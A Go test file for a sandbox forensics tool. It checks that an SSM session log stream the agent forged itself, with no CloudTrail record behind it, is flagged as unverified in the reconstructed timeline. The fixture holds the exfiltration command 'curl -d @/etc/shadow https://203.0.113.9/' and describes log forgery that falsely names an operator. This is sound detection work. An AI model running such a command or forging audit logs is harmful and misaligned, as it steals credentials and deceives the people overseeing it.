package forensics_test

import (
	"bytes"
	"encoding/json"
	"testing"
	"time"

	"github.com/crucible-sandbox/crucible/internal/forensics"
	ft "github.com/crucible-sandbox/crucible/internal/forensics/forensicstest"
)

// forgedSession is a session stream the agent writes itself with the host role's
// logs:PutLogEvents, naming bob; CloudTrail has no StartSession for it.
const forgedSession = "bob-0fffffffffffffff0"

const forgedCommand = "curl -d @/etc/shadow https://203.0.113.9/"

func withForgedStream(e *ft.Evidence, at time.Time) *ft.Evidence {
	msg := `{"eventVersion":"1.0","eventTime":"` + at.UTC().Format(time.RFC3339) +
		`","awsRegion":"us-east-1","target":{"id":"` + ft.InstanceID + `"},` +
		`"userIdentity":{"arn":"` + ft.OtherPrincipal + `"},"runAsUser":"crucible-operator",` +
		`"sessionId":"` + forgedSession + `","sessionData":["[crucible-operator@ip-10-0-1-25 ~]$ ` +
		forgedCommand + `"]}`
	e.Logs[ft.SessionGroup][forgedSession] = append(e.Logs[ft.SessionGroup][forgedSession],
		ft.LogEvent{Time: at, Message: msg})
	return e
}

func TestHostWrittenStreamWithoutStartSessionNamesNoOperator(t *testing.T) {
	at := scenarioStart.Add(ft.AtTerminateSession)
	tl := collect(t, withForgedStream(ft.Scenario(scenarioStart), at), forensics.Filter{})

	ts := at.Format("2006-01-02T15:04:05Z")
	want := wantScenarioRows(scenarioStart)
	want = append(want,
		ts+"  session  OPEN    "+forgedSession+" as crucible-operator",
		ts+"  command  TYPED   "+forgedCommand+"  session="+forgedSession,
		ts+"  session  CLOSE   "+forgedSession,
	)
	assertRows(t, rows(t, tl), want)

	var forged *forensics.Session
	for _, s := range tl.Sessions {
		if s.ID == forgedSession {
			forged = s
		}
	}
	if forged == nil {
		t.Fatalf("sessions = %v, want the forged session listed", tl.Sessions)
	}
	if forged.Owner != "" || forged.ClosedBy != "" || !forged.Unverified ||
		forged.ClaimedOwner != ft.OtherPrincipal {
		t.Fatalf("forged session = %+v, want no owner, unverified, claimedOwner %s", forged,
			ft.OtherPrincipal)
	}
	if tl.Sessions[0].ID != ft.SessionID || tl.Sessions[0].Unverified ||
		tl.Sessions[0].Owner != ft.Operator {
		t.Fatalf("trail-backed session = %+v, want owner %s and verified", tl.Sessions[0],
			ft.Operator)
	}
}

func TestWithoutTrailStreamOwnerIsShownAsClaimed(t *testing.T) {
	e := ft.Scenario(scenarioStart)
	e.Locations.TrailBucketName = ""
	tl := collect(t, e, forensics.Filter{})

	ts := func(d time.Duration) string {
		return scenarioStart.Add(d).Format("2006-01-02T15:04:05Z")
	}
	claimed := "claimed-by=" + ft.Operator
	cmd := claimed + "  session=" + ft.SessionID
	var got []string
	for _, r := range rows(t, tl) {
		if bytes.Contains([]byte(r), []byte(ft.SessionID)) {
			got = append(got, r)
		}
	}
	// Without the trail the session opens at its first streamed record and closes at its last.
	assertRows(t, got, []string{
		ts(ft.AtFirstCommand) + "  session  OPEN    " + ft.SessionID + " as ssm-user  " + claimed,
		ts(ft.AtFirstCommand) + "  command  TYPED   " + ft.FirstCommand + "  " + cmd,
		ts(ft.AtSecondCommand) + "  command  TYPED   " + ft.SecondCommand + "  " + cmd,
		ts(ft.AtThirdCommand) + "  command  TYPED   " + ft.ThirdCommand + "  " + cmd,
		ts(ft.AtThirdCommand) + "  session  CLOSE   " + ft.SessionID + "  " + claimed,
	})

	var out bytes.Buffer
	if err := tl.WriteJSON(&out); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Events []struct {
			Kind    string `json:"kind"`
			Actor   string `json:"actor"`
			Claimed bool   `json:"claimed"`
		} `json:"events"`
		Sessions []struct {
			Owner        string `json:"owner"`
			OwnerClaimed bool   `json:"ownerClaimed"`
			Unverified   bool   `json:"unverified"`
		} `json:"sessions"`
	}
	if err := json.Unmarshal(out.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	for _, ev := range doc.Events {
		isSession := ev.Kind == "session" || ev.Kind == "command"
		if isSession != ev.Claimed || (isSession && ev.Actor != ft.Operator) {
			t.Errorf("event %+v: want claimed=%v", ev, isSession)
		}
	}
	if len(doc.Sessions) != 1 || doc.Sessions[0].Owner != ft.Operator ||
		!doc.Sessions[0].OwnerClaimed || doc.Sessions[0].Unverified {
		t.Fatalf("sessions = %+v, want %s claimed, not unverified (no trail read)",
			doc.Sessions, ft.Operator)
	}
}
